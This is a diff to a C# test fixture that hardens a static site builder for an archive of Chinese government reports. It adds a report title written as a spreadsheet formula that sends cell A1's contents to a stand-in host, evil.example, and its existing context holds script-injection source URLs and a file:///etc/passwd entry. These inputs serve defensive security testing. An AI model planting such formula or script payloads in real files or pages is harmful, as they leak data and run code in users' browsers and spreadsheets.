@@ -9,8 +9,9 @@ namespace Archive.Tests.Hardening;
 /// <summary>
 /// An input/ whose report texts and metadata (titles, source URLs, bureau names and aliases, site title, removed
 /// chrome, inference reasons) carry script, markup, entities, Liquid syntax, bidi and zero-width controls and a
-/// 200 KB line, plus a saved web page full of the same imported through 'archive import'; built and served on
-/// 127.0.0.1 to a headless Chromium.
+/// 200 KB line, plus a saved web page full of the same imported through 'archive import', and a title that is a
+/// spreadsheet formula; built and served on 127.0.0.1 twice: by the in-process server, which sends no policy, and by
+/// nginx with the shipped configuration and its Content-Security-Policy; opened in a headless Chromium.
 /// </summary>
 public sealed class HostileCorpus : IAsyncLifetime
 {
@@ -53,16 +54,27 @@ public sealed class HostileCorpus : IAsyncLifetime
         "file:///etc/passwd",
     ];
 
+    /// <summary>A title a spreadsheet would run as a formula if a CSV cell began with it.</summary>
+    public const string FormulaTitle = "=HYPERLINK(\"https://evil.example/?\"&A1,\"点我\")+罗湖区2019年法治政府建设年度报告";
+
     public const string AcceptedSource = "https://example.org/page?q=\"><script>window.pwned='source'</script>&x=<img src=x onerror=alert(1)>";
 
     private readonly TempFolder _temp = new();
     private DebianChromium? _chromium;
+    private ShippedNginx? _nginx;
+
+    public HostileCorpus() =>
+        _written = new(() => [.. new CorpusReader().ReadValid(Input).Reports.SelectMany(r => r.ReadBody().PlainText.Split('\n').Append(r.Title))]);
 
     public static int PayloadCount => Markup.Length + Literal.Length + RefusedSources.Length + 2;
 
     public IBrowser Browser => _chromium!.Browser;
 
+    /// <summary>The site served with no Content-Security-Policy header: only the pages' own meta policy.</summary>
     public string Address => _chromium!.Address;
+
+    /// <summary>The site served by nginx with the shipped configuration, which sends the policy as a header.</summary>
+    public string NginxAddress => _nginx!.Address;
 
     public string Output => _temp.Combine("output");
 
@@ -78,6 +90,7 @@ public sealed class HostileCorpus : IAsyncLifetime
         WriteInput();
         new SiteBuilder().Build(new BuildPaths(Input, RepoPaths.Theme, Output));
         _chromium = await DebianChromium.ServeAsync(Output);
+        _nginx = new ShippedNginx(Output);
     }
 
     public async Task DisposeAsync()
@@ -86,6 +99,8 @@ public sealed class HostileCorpus : IAsyncLifetime
         {
             await _chromium.DisposeAsync();
         }
+
+        _nginx?.Dispose();
 
         _temp.Dispose();
     }
@@ -131,6 +146,8 @@ public sealed class HostileCorpus : IAsyncLifetime
             """;
         _temp.Write("input/reports/440303-hrss-2020.md", report);
         _temp.Write("input/reports/440303-hrss-2021.md", SampleInput.Report("440303-hrss-2021", year: "2021", published: "2022-03-01"));
+        _temp.Write("input/reports/440303-hrss-2019.md", SampleInput.Report("440303-hrss-2019", year: "2019", published: "2020-03-01")
+            .Replace("title: \"440303-hrss 2019年法治政府建设年度报告\"", "title: " + quoted(FormulaTitle), StringComparison.Ordinal));
 
         var page = $"""
             <!DOCTYPE html><html><head><meta charset="utf-8"><title>天津市河东区人力资源和社会保障局2022年法治政府建设年度报告</title>
@@ -149,6 +166,11 @@ public sealed class HostileCorpus : IAsyncLifetime
         ImportedId = imported.Single().Report.Id;
         ImportedSource = new CorpusReader().ReadValid(Input).Reports.Single(r => r.SourceFile.EndsWith(Path.GetFileName(path), StringComparison.Ordinal)).SourceUrl;
     }
+
+    /// <summary>Every title and line (heading or paragraph) of the corpus as its reports hold them: what a passage may show a slice of.</summary>
+    public IReadOnlyList<string> WrittenTexts => _written.Value;
+
+    private readonly Lazy<IReadOnlyList<string>> _written;
 
     /// <summary>The id 'archive import' gave the saved web page.</summary>
     public string ImportedId { get; private set; } = "";
